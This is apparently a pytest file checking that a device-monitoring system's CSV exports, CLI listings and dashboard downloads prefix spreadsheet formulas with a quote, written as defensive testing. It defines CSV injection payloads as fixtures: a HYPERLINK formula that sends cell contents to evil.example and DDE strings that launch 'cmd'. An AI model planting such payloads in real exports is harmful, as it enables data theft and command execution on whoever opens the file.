"""CSV formula injection: text that a spreadsheet would run as a formula comes out of every CSV the
IOC writes with a leading `'` (share exports, the operators' report, `ioc devices list`, `ioc keys
list`, the dashboard's downloads in Chromium); numbers, negative ones too, stay numbers."""

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from fastapi.testclient import TestClient
from playwright.sync_api import sync_playwright

from gateway.app import create_app
from gateway.settings import GatewaySettings
from services import auth, csvcells, keys, mqtt_accounts
from tests.dashboard import conftest as dash
from tests.dashboard.serve import gateway
from tests.share import world

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
REASON = "+cmd|' /C calc'!A0"
KEY_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
ROOT = Path(__file__).resolve().parents[2]
# What Excel, LibreOffice and Google Sheets start a formula with, unless the cell is a number.
_FORMULA = re.compile(r"[=+\-@\t\r\n]")
_NUMBER = re.compile(r"[+-]?(\d+[.,]?\d*|[.,]\d+)([eE][+-]?\d+)?")


def formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run."""
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    return [c for c in cells if _FORMULA.match(c) and not _NUMBER.fullmatch(c)]


def cells(text: str) -> set[str]:
    return {c for row in csv.reader(io.StringIO(text)) for c in row}


def test_cell_neutralises_formulas_and_leaves_numbers() -> None:
    for text in (EVIL, REASON, KEY_NAME, "-2+3", "\t=1", "\r=1", "\n=1", "-", "+84 912 345 678", "-inf"):
        assert csvcells.cell(text) == "'" + text
    for value in ("-12.5", "+3", "-1e-3", ".5", "-7.", "42", "Loa ấp 1", "", "'=x", " =1", -5, -2.5, None):
        assert csvcells.cell(value) == value
    out = io.StringIO()
    csvcells.writer(out).writerow([EVIL, -1, "-1", "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + EVIL, "-1", "-1", "ok"]
    # A sheet for people in Vietnamese: comma decimals, still numbers, formulas still neutralised.
    assert csvcells.cell("-12,5") == "-12,5" and csvcells.cell("=1,5") == "'=1,5"
    out = io.StringIO()
    csvcells.writer(out, decimal_comma=True).writerow([EVIL, 99.5, -2.25, 75.0, 3, 1e-7, "-0,5"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'" + EVIL, "99,5", "-2,25", "75", "3", "0,0000001", "-0,5",
    ]  # fmt: skip


@pytest.fixture
def share_db(db_url: str) -> str:
    """The two-commune world with a hostile device name, alert message, change reason and metric."""
    now = datetime.now(UTC)
    with psycopg.connect(db_url) as conn:
        world.seed(conn)
        conn.execute("UPDATE devices SET name = %s, lat = -10.39 WHERE id = 'cam-ubnd-1'", (EVIL,))
        world.change(conn, "cam-ubnd-1", "offline", now - timedelta(minutes=30), reason=REASON)
        world.sample(conn, "cam-ubnd-1", now - timedelta(minutes=20), {"note": EVIL, "temperature_c": -4.5})
        conn.execute(
            "INSERT INTO alerts (rule, device_id, commune_id, village_id, kind, severity, message, since, opened_at)"
            " VALUES ('offline', 'cam-ubnd-1', 'thoai-giang', 'trung-binh', 'camera', 'critical', %s, %s, %s)",
            (EVIL + " mất kết nối", now, now),
        )
        auth.add_user(conn, "admin", dash.PASSWORD, "admin")
        conn.commit()
    return db_url


def test_every_share_and_report_csv_neutralises_formulas(share_db: str) -> None:
    with psycopg.connect(share_db) as conn:
        _, key = keys.create(conn, "tinh", None, None, 6000)
        conn.commit()
    settings = GatewaySettings(_env_file=None, database_url=share_db, mqtt_url=None)  # type: ignore[call-arg]
    share = {"Authorization": f"Bearer {key}", "Accept": "text/csv"}
    # Every CSV the share API and the operators' report produce, each with the text it carries.
    paths: list[tuple[str, set[str]]] = [
        ("/api/share/v1/devices", {"'" + EVIL, "-10.39"}),
        ("/api/share/v1/status", set()),
        ("/api/share/v1/history?device=cam-ubnd-1&bucket=1h", set()),
        ("/api/share/v1/history", set()),
        ("/api/share/v1/availability?group_by=device", set()),
        ("/api/share/v1/availability?group_by=village", set()),
        ("/api/share/v1/availability?group_by=kind", set()),
        ("/api/share/v1/alerts", {"'" + EVIL + " mất kết nối"}),
        ("/api/share/v1/changes", {"'" + REASON}),
    ]
    with TestClient(create_app(settings)) as client:
        for path, expected in paths:
            r = client.get(path, headers=share)
            assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), (path, r.text)
            assert formulas(r.text) == [], path
            assert expected <= cells(r.text), (path, r.text)
        assert '\\"note\\": \\"=HYPERLINK' not in client.get("/api/share/v1/history", headers=share).text
        token = client.post(
            "/api/v1/auth/login", json={"username": "admin", "password": dash.PASSWORD}
        ).json()
        r = client.get(
            "/api/v1/reports/availability?format=csv&group_by=device",
            headers={"Authorization": f"Bearer {token['token']}"},
        )
        assert r.status_code == 200 and "cam-ubnd-1" in r.text and formulas(r.text) == []


def _ioc(db_url: str, tmp_path: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("IOC_")}
    env.update({"IOC_DATABASE_URL": db_url, "IOC_DATA_DIR": str(tmp_path), "PYTHONPATH": str(ROOT)})
    done = subprocess.run(
        [sys.executable, "-m", "cli.main", *args], env=env, cwd=tmp_path, capture_output=True, check=True
    )
    return done.stdout.decode()


def test_ioc_devices_list_and_keys_list_neutralise_formulas(share_db: str, tmp_path: Path) -> None:
    with psycopg.connect(share_db) as conn:
        keys.create(conn, KEY_NAME, None, None, 600)
        conn.commit()
    devices = _ioc(share_db, tmp_path, "devices", "list")
    assert "cam-ubnd-1" in devices and "'" + EVIL in cells(devices) and formulas(devices) == []
    listed = _ioc(share_db, tmp_path, "keys", "list")
    assert "'" + KEY_NAME in cells(listed) and formulas(listed) == []


def test_credentials_csv_passwords_never_start_a_formula() -> None:
    # A generated password is copied as it is from credentials.csv: it must need no quote.
    passwords = [mqtt_accounts.new_password() for _ in range(3000)]
    assert not [p for p in passwords if p.startswith("-")]
    created = [
        mqtt_accounts.Credential(device_id="spk-1", username="spk-1", password=p) for p in passwords[:50]
    ]
    text = mqtt_accounts.render_credentials(created)
    assert [r["password"] for r in csv.DictReader(io.StringIO(text))] == passwords[:50]


@pytest.fixture
def dash_page(db_url: str) -> Iterator[Any]:
    """The dashboard in Chromium, signed in, on the dashboard's seeded commune with hostile text."""
    dash.seed(db_url)
    now = datetime.now(UTC)
    with psycopg.connect(db_url) as conn:
        conn.execute("UPDATE devices SET name = %s WHERE id = 'cam-cho'", (EVIL,))
        conn.execute("UPDATE device_state SET reason = %s WHERE device_id = 'cam-cho'", (REASON,))
        conn.execute(
            "INSERT INTO alerts (rule, device_id, commune_id, village_id, kind, severity, message, since,"
            " opened_at, ack_comment) VALUES ('generator_stopped', 'cam-cho', 'thoai-giang', 'trung-binh',"
            " 'camera', 'warning', 'x', %s, %s, %s)",
            (now, now, "@SUM(A1:A9)"),
        )
        conn.execute(
            "INSERT INTO maintenance (commune_id, device_id, starts_at, ends_at, reason, created_by)"
            " VALUES ('thoai-giang', 'cam-cho', %s, %s, %s, 'admin')",
            (now, now + timedelta(hours=1), "-2+3+cmd|' /C calc'!A0"),
        )
    with gateway(db_url) as base, sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        ctx = browser.new_context(viewport={"width": 1366, "height": 768}, accept_downloads=True)
        page = ctx.new_page()
        dash.sign_in(page, base)
        yield page
        ctx.close()
        browser.close()


def _download(page: Any, view: str, button: str) -> str:
    page.click(f"[data-nav={view}]")
    page.wait_for_selector(button)
    with page.expect_download() as info:
        page.click(button)
    return Path(info.value.path()).read_text(encoding="utf-8-sig")


@pytest.mark.timeout(120)
def test_dashboard_downloads_neutralise_formulas(dash_page: Any) -> None:
    # The page's downloads are for people: Vietnamese headers (the page's language).
    devices = _download(dash_page, "devices", "#devices-csv")
    row = next(r for r in csv.DictReader(io.StringIO(devices)) if r["Mã thiết bị"] == "cam-cho")
    # A reason the page has no word for is «lý do khác»: the hostile one never reaches the sheet.
    assert (row["Tên thiết bị"], row["Lý do"]) == ("'" + EVIL, "lý do khác")
    assert formulas(devices) == []
    alerts = _download(dash_page, "alerts", "#alerts-csv")
    row = next(r for r in csv.DictReader(io.StringIO(alerts)) if r["Mã thiết bị"] == "cam-cho")
    assert (row["Tên thiết bị"], row["Ghi chú"]) == ("'" + EVIL, "'@SUM(A1:A9)")
    assert formulas(alerts) == []
    maintenance = _download(dash_page, "maintenance", "#mt-csv")
    row = next(r for r in csv.DictReader(io.StringIO(maintenance)) if r["Mã thiết bị"] == "cam-cho")
    assert row["Lý do"] == "'-2+3+cmd|' /C calc'!A0"
    assert formulas(maintenance) == []


def test_every_csv_writer_goes_through_csvcells() -> None:
    # A new CSV writer that bypasses the cell rule would bring formula injection back.
    bypass = [
        f"{path.relative_to(ROOT)}:{n}"
        for pkg in ("services", "gateway", "cli", "ingest", "simulator")
        for path in sorted((ROOT / pkg).rglob("*.py"))
        if path != ROOT / "services" / "csvcells.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"csv\.(writer|DictWriter)\(", line)
    ]
    assert bypass == []
    js = sorted((ROOT / "dashboard" / "js").rglob("*.js"))
    builders = [p.name for p in js if "text/csv" in p.read_text(encoding="utf-8")]
    assert builders == ["dom.js"]  # downloadCsv, whose cells go through csvCell
